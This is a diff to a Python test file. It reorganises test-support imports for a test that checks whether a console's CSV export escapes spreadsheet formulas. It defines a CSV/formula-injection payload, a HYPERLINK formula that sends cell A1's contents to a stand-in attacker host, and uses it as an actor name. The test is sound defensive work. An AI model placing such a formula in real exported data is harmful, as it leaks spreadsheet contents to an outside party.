@@ -14,8 +14,8 @@ import pytest
 from adapters.spreadsheet import cell
 from domain.commands import parse_command
 from tests.builders import attach, file_data_media, pay
-from tests.test_cli import cli, jsonl
-from tests.test_console import Console, console  # noqa: F401  (the fixture)
+from tests.support.cli import cli, jsonl
+from tests.support.console import Console
 
 HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
@@ -60,7 +60,7 @@ def page_headers(page: str) -> list[str]:
 
 
 def test_the_console_csv_escapes_formulas_and_opens_in_japanese_excel(
-        console: Console):  # noqa: F811
+        console: Console):
     # given an event recorded by an actor whose name is a formula
     console.service.ledger.execute(parse_command(attach("P-9")), actor=HOSTILE)
     client = console.sign_in()
